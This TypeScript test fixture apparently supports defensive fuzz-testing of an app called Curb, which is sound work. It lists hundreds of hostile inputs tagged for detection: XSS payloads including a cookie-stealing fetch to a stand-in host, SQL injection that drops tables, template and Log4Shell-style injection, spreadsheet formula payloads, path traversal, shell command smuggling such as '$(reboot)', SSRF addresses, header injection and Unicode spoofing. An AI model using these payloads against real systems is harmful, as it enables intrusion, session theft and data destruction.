/** A text somebody could write to hurt others, and what it tries. */
export type AttackString = { category: string; text: string };

/** Elements made of one of these texts carry this class, scripts set this name, and requests go to this host. */
export const MARK = { className: 'pwn', global: 'pwned', host: 'pwn.invalid' } as const;

const RUN = 'window.pwned=1';
const PICTURE = `<img class=pwn src=x onerror="${RUN}">`;

const EVENTS = ['onload', 'onerror', 'onclick', 'onfocus', 'ontoggle', 'onbegin', 'onpointerenter', 'onanimationstart'];
const TAGS = ['svg', 'body', 'video', 'details', 'marquee', 'input', 'iframe', 'object'];
const SCHEMES = ['javascript', 'vbscript', 'data', 'file', 'blob', 'view-source', 'jar', 'feed', 'intent', 'ws'];

const script = [
  `<script class=pwn>${RUN}</script>`,
  `<ScRiPt class=pwn>${RUN}</sCrIpT>`,
  `<script class=pwn src=https://pwn.invalid/a.js></script>`,
  `<script class=pwn src=//pwn.invalid/a.js></script>`,
  `</script><script class=pwn>${RUN}</script>`,
  `<script class=pwn type=module>import 'https://pwn.invalid/m.js'</script>`,
  `<script\x20class=pwn\x09>${RUN}</script >`,
  `<script/class=pwn>${RUN}</script>`,
  `<<script class=pwn>${RUN}//<</script>`,
  `<scr<script>ipt class=pwn>${RUN}</scr</script>ipt>`,
  `<script class=pwn>fetch('https://pwn.invalid/?'+document.cookie)</script>`,
  `<noscript><p title="</noscript>${PICTURE}">`,
  `\u003cscript class=pwn\u003e${RUN}\u003c/script\u003e`,
  `<!--><script class=pwn>${RUN}</script>-->`,
  `<![CDATA[<script class=pwn>${RUN}</script>]]>`,
  `<template><script class=pwn>${RUN}</script></template>`,
];

const markup = [
  PICTURE,
  ...TAGS.flatMap((tag, index) => [
    `<${tag} class=pwn ${EVENTS[index % EVENTS.length]}="${RUN}">`,
    `<${tag} class=pwn src=https://pwn.invalid/${tag}>x</${tag}>`,
  ]),
  ...EVENTS.map((event) => `<p class=pwn ${event}=${RUN} style=animation-name:x tabindex=1>x</p>`),
  '<a class=pwn href="https://pwn.invalid/">click</a>',
  '<base class=pwn href=https://pwn.invalid/>',
  '<meta class=pwn http-equiv=refresh content="0;url=https://pwn.invalid/">',
  '<link class=pwn rel=stylesheet href=https://pwn.invalid/a.css>',
  '<style class=pwn>*{display:none}</style>',
  '<style class=pwn>@import "https://pwn.invalid/a.css"</style>',
  '<form class=pwn action=https://pwn.invalid/><button>Sign in</button></form>',
  '<input class=pwn autofocus onfocus=window.pwned=1>',
  '<math class=pwn><mtext></mtext><mglyph><style><img src=x onerror=window.pwned=1>',
  '<svg class=pwn><animate onbegin=window.pwned=1 attributeName=x></svg>',
  '<svg class=pwn><use href="data:image/svg+xml,<svg id=x onload=window.pwned=1>#x"/></svg>',
  '<iframe class=pwn srcdoc="<script>parent.pwned=1</script>"></iframe>',
  '<h1 class=pwn>Curb is closed</h1>',
  '<div class=pwn style="position:fixed;inset:0;background:red">gone</div>',
  '<plaintext class=pwn>',
  '<xmp class=pwn>',
  '<textarea class=pwn>',
  '</textarea></p></div></main>',
  '<title class=pwn>x</title>',
  '<table class=pwn><td background=https://pwn.invalid/>',
  '&lt;img class=pwn src=x onerror=window.pwned=1&gt;',
  '&#60;img class=pwn src=x onerror=window.pwned=1&#62;',
  '&amp;lt;b&amp;gt;',
  '<b>bold</b><i>italic</i><u>under</u>',
];

const attribute = ['"', "'", '`', '">', "'>", '`>', '" ', "' "].flatMap((end) => [
  `${end} autofocus onfocus=${RUN} class=pwn x=`,
  `${end}${PICTURE}`,
]);

const address = [
  ...SCHEMES.flatMap((scheme) => [`${scheme}:${RUN}`, `${scheme.toUpperCase()}://pwn.invalid/%0a${RUN}`]),
  ` javascript:${RUN}`,
  `java\nscript:${RUN}`,
  `java\tscript:${RUN}`,
  `javascript&colon;${RUN}`,
  `javascript:/*--></title></style></textarea></script><svg/onload=${RUN}>`,
  'data:text/html,<script class=pwn>parent.pwned=1</script>',
  'data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQ9MTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="window.pwned=1"/>',
  'https://curb.example@pwn.invalid/',
  'https://user:secret@pwn.invalid/',
  'https://pwn.invalid/"onmouseover="window.pwned=1',
  "https://pwn.invalid/'><script class=pwn>window.pwned=1</script>",
  'https://pwn.invalid/<img class=pwn src=x onerror=window.pwned=1>',
  'https:\\\\pwn.invalid\\a',
  '//pwn.invalid/a.png',
  'https://xn--pwn-6na.invalid/',
  'https://ｐｗｎ.invalid/',
  'https://pwn.invalid%2f@curb.example/',
  'http://127.0.0.1:4100/health',
  'http://169.254.169.254/latest/meta-data/',
  'http://[::1]/',
  'http://0x7f000001/',
  '[click](javascript:window.pwned=1)',
  '![x](https://pwn.invalid/x.png)',
  '<https://pwn.invalid/>',
  'https://pwn.invalid/\u202egpj.exe',
];

const unicode = [
  'Ｆｕｌｌ ｗｉｄｔｈ ＜script＞',
  'раураl',
  'аdmіnіstrаtоr',
  '𝐂𝐮𝐫𝐛 𝐬𝐮𝐩𝐩𝐨𝐫𝐭',
  'ⓒⓤⓡⓑ',
  'Ⅷ ﬁ ﬀ ǆ',
  'İstanbul ıI',
  'ẞß ſ',
  'e\u0301 é',
  '\u1E9B\u0323',
  '\uFDFA\uFDFA\uFDFA',
  '﷽﷽﷽﷽﷽',
  '𒐫𒐫𒐫𒐫',
  'ᅟᅟᅟ\u3164\u3164',
  '\u034F\u034F\u034Fx',
  '\uD83D',
  '\uDE00 alone',
  'a\uFFFEb\uFFFF',
  '\u{10FFFF}',
  '\u{E0001}\u{E0041}\u{E007F}x',
  '\uFEFFbom',
  'x\u00A0\u2003\u3000y',
  '\u200Bzero\u200Cwidth\u200Djoin\u2060er',
  '\u00ADsoft\u00ADhyphen',
  '\u180Emongolian',
  'İ̇̇̇',
];

const BIDI = ['\u202A', '\u202B', '\u202D', '\u202E', '\u2066', '\u2067', '\u2068', '\u200E', '\u200F', '\u061C'];
const bidi = [
  ...BIDI.map((mark) => `${mark}evil txt.exe`),
  ...BIDI.map((mark) => `pay ${mark}100${mark} now`),
  '\u202E'.repeat(40),
  `${'\u2067'.repeat(130)}deep`,
  'مرحبا <script class=pwn>window.pwned=1</script> שלום',
  'ا'.repeat(300),
  'user\u202Eresu@pwn',
  '\u2069\u2069\u202C\u202Cpop',
];

const marks = (count: number) =>
  Array.from({ length: count }, (_, index) => String.fromCodePoint(0x300 + (index % 0x50))).join('');
const zalgo = [3, 8, 20, 60, 200, 700].flatMap((count) => [`H${marks(count)}`, `z${marks(count)}a${marks(count)}`]);

const sql = [
  "' OR '1'='1",
  "'; DROP TABLE replies; --",
  "'; DELETE FROM users; --",
  '" OR ""="',
  '1; SELECT pg_sleep(5)',
  "'; SELECT pg_sleep(5); --",
  "' UNION SELECT address FROM users --",
  "x') ; TRUNCATE events; --",
  "\\'; DROP TABLE coins; --",
  "E'\\'; --",
  '$$; DROP TABLE users; $$',
  '%',
  '_',
  '%%%___',
  "'||(select version())||'",
  ':name ?1 $1 $2',
  "admin'--",
  "' AND 1=CAST((SELECT version()) AS int)--",
  '{"$gt":""}',
  '*)(uid=*))(|(uid=*',
  "' or 1=1 /*",
];

// biome-ignore-start lint/suspicious/noTemplateCurlyInString: that is the attack
const template = [
  '{{7*7}}',
  '${7*7}',
  '#{7*7}',
  '<%= 7*7 %>',
  '{% debug %}',
  '{{constructor.constructor("window.pwned=1")()}}',
  '${window.pwned=1}',
  '`${window.pwned=1}`',
  '[[${7*7}]]',
  '@{7*7}',
  '*{7*7}',
  '{{#with "s" as |x|}}{{x}}{{/with}}',
  '%{(#a=7)}',
  '${jndi:ldap://pwn.invalid/a}',
  '%s%s%s%n%x',
  '%p %99999999s',
  '{0} {1}',
  '__proto__',
  'constructor',
  'toString',
  '{"__proto__":{"pwned":1}}',
  'hasOwnProperty',
];
// biome-ignore-end lint/suspicious/noTemplateCurlyInString: that is the attack

const formula = ['=', '+', '-', '@', '\t=', '\r='].flatMap((start) => [
  `${start}1+1`,
  `${start}HYPERLINK("https://pwn.invalid","x")`,
  `${start}cmd|' /C calc'!A0`,
]);

const long = [
  'a'.repeat(5_000),
  'a'.repeat(1_000),
  'a '.repeat(500),
  'W'.repeat(400),
  '🦦'.repeat(250),
  `${'\n'.repeat(400)}low`,
  'https://pwn.invalid/'.padEnd(900, 'a'),
  `@${'a'.repeat(200)}`,
  '@a '.repeat(300),
  '<'.repeat(500),
  '&'.repeat(500),
  '('.repeat(500),
  `${'a'.repeat(60)}@`.repeat(12),
  'x\u0000'.repeat(10),
];

const emoji = [
  '👩‍👩‍👧‍👦',
  '🏳️‍🌈🏴‍☠️',
  '👍🏿👍🏻',
  '🇩🇪🇫🇷🇺',
  '#️⃣*️⃣0️⃣',
  '👁️‍🗨️',
  '🧑🏽‍🚀'.repeat(20),
  `${'👨‍'.repeat(60)}👦`,
  '\u{1F468}\u200D\u{1F468}\u200D',
  '☠︎ ☠️',
];

const CONTROLS = [0, 1, 7, 8, 9, 0x0b, 0x0c, 0x0d, 0x1b, 0x1f, 0x7f, 0x80, 0x85, 0x9b, 0x9f, 0x2028, 0x2029, 0xfff9];
const control = [
  ...CONTROLS.map((code) => `a${String.fromCodePoint(code)}b`),
  '\u001b[2J\u001b[31mred',
  '\u001b]0;title\u0007',
  'a\r\nSet-Cookie: pwned=1',
  'a\r\n\r\n<html>',
  'a\nlevel=error forged=1',
  '\b\b\b\bgone',
];

const path = [
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '%2e%2e%2f%2e%2e%2f',
  '/images/../health',
  'file.png\u0000.svg',
  'CON',
  'C:\\x',
  '~root',
  '$(reboot)',
  '`reboot`',
  '; reboot',
  '| reboot',
  '&& curl pwn.invalid',
  '\\\\pwn.invalid\\share',
];

const mention = [
  '@<script class=pwn>window.pwned=1</script>',
  '@"onfocus="window.pwned=1',
  '@../../admin',
  '@@@@@@',
  '@admin@admin@admin',
  '@\u202Enimda',
  '#reply-1"onclick="window.pwned=1',
];

const number = ['NaN', '-0', '1e309', '0x10', '١٢٣', '9'.repeat(40), 'null', 'undefined', 'true', '[]', '{}', '""'];

const KINDS = {
  script,
  markup,
  attribute,
  address,
  unicode,
  bidi,
  zalgo,
  sql,
  template,
  formula,
  long,
  emoji,
  control,
  path,
  mention,
  number,
};

/** Every text once; more than three hundred. */
export const ATTACK_STRINGS: readonly AttackString[] = Object.entries(KINDS).flatMap(([category, texts]) =>
  [...new Set(texts)].map((text) => ({ category, text })),
);
